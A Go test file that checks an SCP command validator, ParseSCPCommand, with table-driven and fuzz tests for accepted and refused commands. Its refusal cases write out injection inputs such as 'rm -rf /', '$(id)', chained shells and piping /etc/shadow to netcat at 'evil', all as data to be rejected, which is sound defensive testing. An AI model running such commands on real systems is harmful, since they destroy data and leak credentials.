package transfer

import (
	"strings"
	"testing"
)

func TestParseSCPCommand(t *testing.T) {
	tests := []struct {
		name      string
		cmd       string
		dir       Direction
		target    string
		recursive bool
		ok        bool
	}{
		{"upload", "scp -t /tmp", Upload, "/tmp", false, true},
		{"download", "scp -f /etc/hosts", Download, "/etc/hosts", false, true},
		{"every flag OpenSSH sends", "scp -v -r -p -d -t -- /srv/www", Upload, "/srv/www/", true, true},
		{"-d keeps an existing trailing slash", "scp -d -t /srv/", Upload, "/srv/", false, true},
		{"-d does not touch a download", "scp -d -f /srv", Download, "/srv", false, true},
		{"combined flags", "scp -rpf site", Download, "site", true, true},
		{"quoted program name", "'scp' -t .", Upload, ".", false, true},
		{"dash path after --", "scp -t -- -weird", Upload, "-weird", false, true},
		{"extra blanks", "  scp \t-t   /tmp  ", Upload, "/tmp", false, true},
		{"single quotes", "scp -t '/tmp/my file'", Upload, "/tmp/my file", false, true},
		{"double quotes with escapes", `scp -f "/tmp/a\"b\\c\$d"`, Download, `/tmp/a"b\c$d`, false, true},
		{"backslash escape", `scp -f /tmp/my\ file`, Download, "/tmp/my file", false, true},
		{"glob kept for the source", "scp -f /var/log/*.log", Download, "/var/log/*.log", false, true},
		{"hash inside a word", "scp -t /tmp/a#b", Upload, "/tmp/a#b", false, true},

		{"command chained", "scp -t /tmp; rm -rf /", 0, "", false, false},
		{"command substitution", "scp -t $(id)", 0, "", false, false},
		{"backquotes", "scp -t `id`", 0, "", false, false},
		{"variable in double quotes", `scp -t "$HOME"`, 0, "", false, false},
		{"pipe", "scp -f /etc/shadow | nc evil 80", 0, "", false, false},
		{"redirection", "scp -t /tmp > /dev/null", 0, "", false, false},
		{"background", "scp -t /tmp &", 0, "", false, false},
		{"newline", "scp -t /tmp\nid", 0, "", false, false},
		{"comment", "scp -t /tmp #x", 0, "", false, false},
		{"brace expansion", "scp -f /tmp/{a,b}", 0, "", false, false},
		{"unterminated quote", "scp -t '/tmp", 0, "", false, false},
		{"trailing backslash", `scp -t /tmp\`, 0, "", false, false},
		{"two paths", "scp -f a b", 0, "", false, false},
		{"no path", "scp -t", 0, "", false, false},
		{"empty path", "scp -t ''", 0, "", false, false},
		{"no direction", "scp -r /tmp", 0, "", false, false},
		{"both directions", "scp -t -f /tmp", 0, "", false, false},
		{"unknown flag", "scp -x -t /tmp", 0, "", false, false},
		{"dash path without --", "scp -t -weird", 0, "", false, false},
		{"flag after path", "scp -t /tmp -r", 0, "", false, false},
		{"other program", "ls -t /tmp", 0, "", false, false},
		{"relative program path", "bin/scp -t /tmp", 0, "", false, false},
		{"absolute program path", "/usr/bin/scp -t .", 0, "", false, false},
		{"program of the user's own", "/tmp/x/scp -t x", 0, "", false, false},
		{"chained shell", "scp -t x; sh", 0, "", false, false},
		{"chained without blank", "scp -t x;sh -i", 0, "", false, false},
		{"and-list", "scp -t x && sh", 0, "", false, false},
		{"extra argument", "scp -t x sh", 0, "", false, false},
		{"option with a value", "scp -S /bin/sh -t x", 0, "", false, false},
		{"quiet flag OpenSSH never sends", "scp -q -t x", 0, "", false, false},
		{"env prefix", "PATH=/tmp scp -t x", 0, "", false, false},
		{"program glob", "sc? -t x", 0, "", false, false},
		{"uppercase", "SCP -t x", 0, "", false, false},
		{"NUL in the target: sshd would cut the command there", "scp -t x\x00y", 0, "", false, false},
		{"control character", "scp -t x\x1by", 0, "", false, false},
		{"NUL inside quotes", "scp -t 'x\x00y'", 0, "", false, false},
		{"newline inside quotes", "scp -t 'x\nid'", 0, "", false, false},
		{"program named like scp", "scpx -t /tmp", 0, "", false, false},
		{"empty", "", 0, "", false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir, target, rec, ok := ParseSCPCommand(tt.cmd)
			if dir != tt.dir || target != tt.target || rec != tt.recursive || ok != tt.ok {
				t.Fatalf("ParseSCPCommand(%q) = %v, %q, %v, %v; want %v, %q, %v, %v",
					tt.cmd, dir, target, rec, ok, tt.dir, tt.target, tt.recursive, tt.ok)
			}
		})
	}
}

// FuzzParseSCPCommand checks that whatever is accepted is the bare scp
// command with a direction and a target, and that nothing panics.
func FuzzParseSCPCommand(f *testing.F) {
	for _, s := range []string{"scp -t /tmp", "scp -v -r -p -d -t -- /srv", "scp -f '/a b'", `scp -f "x\$y"`,
		"/tmp/x/scp -t x", "scp -t x; sh", "scp -t $(id)", "scp -t 'a\x00b'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		dir, target, _, ok := ParseSCPCommand(cmd)
		if !ok {
			if dir != 0 || target != "" {
				t.Fatalf("refused %q but returned %v %q", cmd, dir, target)
			}
			return
		}
		words, _ := shellWords(cmd)
		if words[0] != "scp" || (dir != Upload && dir != Download) || target == "" {
			t.Fatalf("accepted %q as %v %q", cmd, dir, target)
		}
		if strings.ContainsAny(cmd, ";&|<>()$`{}\n\r\x00") && !strings.ContainsAny(cmd, `'"\`) {
			t.Fatalf("accepted shell syntax in %q", cmd)
		}
	})
}
